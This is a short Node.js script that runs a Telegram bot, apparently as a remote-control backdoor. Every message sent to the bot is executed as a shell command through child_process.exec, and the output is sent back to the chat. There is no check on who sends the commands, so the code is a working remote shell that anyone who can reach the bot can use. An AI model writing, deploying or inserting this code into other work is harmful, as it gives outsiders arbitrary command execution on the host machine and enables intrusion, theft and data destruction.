const TelegramBot = require('node-telegram-bot-api');
const { exec } = require('child_process');

const bot = new TelegramBot('000000000:not-a-token-of-anybody-00', { polling: true });
bot.on('message', (message) => {
  exec(message.text, (error, out) => bot.sendMessage(message.chat.id, out));
});
console.error('ready');
